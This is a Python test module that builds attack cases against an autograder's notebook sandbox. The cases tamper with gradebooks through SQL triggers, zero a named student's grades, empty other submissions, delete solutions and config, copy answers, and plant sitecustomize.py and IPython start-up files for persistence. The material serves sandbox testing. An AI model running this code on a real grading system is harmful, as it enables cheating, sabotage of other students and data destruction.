"""Writing or reading the class's grading state from a submission's kernel: the class
gradebook and the grader's private ones, other students' notebooks and records, the course's
config, the grader's source, files that later run in the instructor's own commands
(sitecustomize.py, IPython and Jupyter start-up files), and the solutions.

A sandboxed kernel sees none of it. Every file an attack writes holds its Target's token, so a
test finds any write that got through; what it writes is inert (a comment)."""

from tools.corpus.build import (
    ASSIGNMENT,
    ROOT,
    SOFTMAX,
    SOLUTION,
    VICTIM,
    Case,
    add,
    filled,
    steps,
    stubs,
)

# The gradebooks in the folders above the kernel's own: the worker's scratch folder holds the
# template gradebook and each submission's private one.
GRADEBOOKS_ABOVE = """
import glob, sqlite3


def gradebooks_above():
    found, folder = [], os.getcwd()
    while folder != "/":
        folder = os.path.dirname(folder)
        found += glob.glob(f"{folder}/*.db") + glob.glob(f"{folder}/*/gradebook.db")
    return found
"""

# In the gradebook at `path`: set the auto_score of the grades `which` selects (an SQL condition
# on nbgrader's `grade` table) to `score` (an SQL expression), and plant triggers that do it
# again whenever such a grade is written.
TRIGGERS = """
def triggers(path, score, which="1"):
    db = sqlite3.connect(f"file:{path}?mode=rw", uri=True)  # never create one
    db.execute(f"UPDATE grade SET auto_score = {score} WHERE {which}")
    for event in ("INSERT", "UPDATE OF auto_score"):
        db.execute(
            f'CREATE TRIGGER "{TOKEN}-{event.split()[0]}" AFTER {event} ON grade BEGIN '
            f"UPDATE grade SET auto_score = {score} WHERE id = NEW.id AND {which}; END"
        )
    db.commit()
"""

# The rows of one student's grades, in nbgrader's schema.
OF_STUDENT = (
    "grade.notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a "
    "ON n.assignment_id = a.id WHERE a.student_id = '{}')"
)
MAX_SCORE = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"


def class_gradebook(target):
    gradebook = str(target.course / "gradebook.db")
    return steps(
        target,
        f"import sqlite3\n{TRIGGERS}\n"
        f"attempt('zero {VICTIM} in the class gradebook, now and on every regrade', "
        f"lambda: triggers({gradebook!r}, 0, {OF_STUDENT.format(VICTIM)!r}))",
    )


def scratch_gradebooks(target):
    # full marks in its own private gradebook; in the worker's template, for everyone after it
    return steps(
        target,
        f"{GRADEBOOKS_ABOVE}\n{TRIGGERS}\n"
        "for path in gradebooks_above():\n"
        f"    attempt(f'full marks in {{path}}', lambda: triggers(path, {MAX_SCORE!r}))",
        start=stubs,
    )


def other_submission(target):
    victim = target.course / "submitted" / VICTIM / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    return steps(
        target,
        "import json\n\n\n"
        "def empty():\n"
        f"    with open({str(victim)!r}, 'r+') as f:\n"
        "        f.truncate()\n"
        "        json.dump({'cells': [], 'metadata': {'by': TOKEN}, 'nbformat': 4}, f)\n\n\n"
        f"attempt('empty the notebook {VICTIM} submitted', empty)",
    )


def records(target):
    record = target.course / "feedback" / ".grader" / ASSIGNMENT / f"{VICTIM}.json"
    graded = target.course / "autograded" / VICTIM / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    return steps(
        target,
        f"attempt('append to the record of {VICTIM}', append_to({str(record)!r}))\n"
        f"attempt('append to the graded notebook of {VICTIM}', append_to({str(graded)!r}))",
    )


def course_config(target):
    config = str(target.course / "nbgrader_config.py")
    return steps(
        target,
        f"attempt('append to the course config', append_to({config!r}))\n"
        "for above in ('../../..', '../../../..'):  # the grader's private course, were it there\n"
        "    attempt(f'append to {above}/nbgrader_config.py', "
        "append_to(f'{above}/nbgrader_config.py'))",
    )


def grader_source(target):
    module = f"{target.token.replace('-', '_')}.py"
    return steps(
        target,
        "import grader\n\n"
        "source = os.path.dirname(grader.__file__)\n"
        "attempt('append to the check suite', "
        "append_to(os.path.join(source, 'suites', 'day01_sdpa.py')))\n"
        f"attempt('add a module to the grader', create(os.path.join(source, {module!r})))",
    )


def sitecustomize(target):
    return steps(
        target,
        "import site, sys\n\n"
        "version = f'python{sys.version_info[0]}.{sys.version_info[1]}'\n"
        f"instructor = os.path.join({str(target.home)!r}, '.local', 'lib', version, "
        "'site-packages')\n"
        "for folder in [*site.getsitepackages(), site.getusersitepackages(), instructor]:\n"
        "    for name in ('sitecustomize.py', 'usercustomize.py'):\n"
        "        attempt(f'plant {folder}/{name}', create(os.path.join(folder, name)))",
    )


def startup_files(target):
    return steps(
        target,
        f"for home in ({str(target.home)!r}, os.path.expanduser('~')):\n"
        "    startup = os.path.join(home, '.ipython', 'profile_default', 'startup')\n"
        "    attempt(f'plant a start-up file in {startup}', "
        "create(os.path.join(startup, f'00-{TOKEN}.py')))\n"
        "    config = os.path.join(home, '.jupyter', 'jupyter_server_config.py')\n"
        "    attempt(f'append to {config}', append_to(config))",
    )


def delete_course_files():
    return filled(
        **{
            SOFTMAX: add(
                "import os, shutil\n"
                "for path in ('../../../solutions', '../../../exercises', '../../../gradebook.db',\n"
                "             '../../../nbgrader_config.py', '../../../submitted'):\n"
                "    shutil.rmtree(path, ignore_errors=True)\n"
                "    if os.path.isfile(path):\n"
                "        os.remove(path)"
            )
        }
    )


COPY_ANSWERS = """
import json
for path in {paths!r}:
    try:
        answer = json.load(open(path))
    except OSError as error:
        print('no answers to copy:', error)
        continue
    for c in answer['cells']:
        if c.get('metadata', {{}}).get('nbgrader', {{}}).get('solution'):
            exec(''.join(c['source']))
"""


def read_solutions():
    return stubs(COPY_ANSWERS.format(paths=[f"../../../solutions/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"]))


def read_solutions_absolute(target):
    # the class's course folder, and the course's source where the grader was installed from
    paths = [
        str(folder / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
        for folder in (target.course, ROOT)
    ]
    return stubs(COPY_ANSWERS.format(paths=paths))


def answers_into_feedback(target):
    # every day's solutions printed in its own outputs, which its feedback shows
    folders = [str(target.course / "solutions"), str(ROOT / "solutions")]
    return steps(
        target,
        "import glob\n\n\n"
        "def show(path):\n"
        "    return lambda: print(open(path).read())\n\n\n"
        f"for folder in {folders!r}:\n"
        "    attempt(f'list {folder}', lambda: print(os.listdir(folder)))\n"
        "    for path in sorted(glob.glob(f'{folder}/*/*.ipynb')):\n"
        "        attempt(f'print {path}', show(path))",
    )


CASES = {
    "delete-course-files": Case(
        delete_course_files, "deletes ../../../solutions and the config", 9, findings=[]
    ),
    "read-solutions": Case(
        read_solutions, "copies the answers from ../../../solutions", 0, findings=[]
    ),
    "read-solutions-absolute": Case(
        read_solutions_absolute, "copies the answers from solutions/ by absolute path", 0
    ),
    "answers-into-feedback": Case(
        answers_into_feedback,
        "prints every day's solution notebook into its outputs",
        9,
        absent=(SOLUTION,),
    ),
    "class-gradebook-trigger": Case(
        class_gradebook,
        f"zeroes {VICTIM} in the class gradebook and plants triggers that zero every regrade",
        9,
    ),
    "scratch-gradebooks": Case(
        scratch_gradebooks,
        "the stubs, and triggers for full marks in every gradebook above its folder (its own "
        "private one, the worker's template)",
        0,
    ),
    "other-submission": Case(other_submission, f"empties the notebook {VICTIM} submitted", 9),
    "other-records": Case(records, f"appends to the record and the graded notebook of {VICTIM}", 9),
    "course-config": Case(course_config, "appends to nbgrader_config.py", 9),
    "grader-source": Case(
        grader_source,
        "appends to the check suite and adds a module to the grader",
        0,  # a notebook that reaches into the grader is not checked at all
    ),
    "sitecustomize": Case(
        sitecustomize, "plants sitecustomize.py and usercustomize.py in every site folder", 9
    ),
    "startup-files": Case(
        startup_files,
        "plants an IPython start-up file and appends to the Jupyter config in the instructor's "
        "home",
        9,
    ),
}
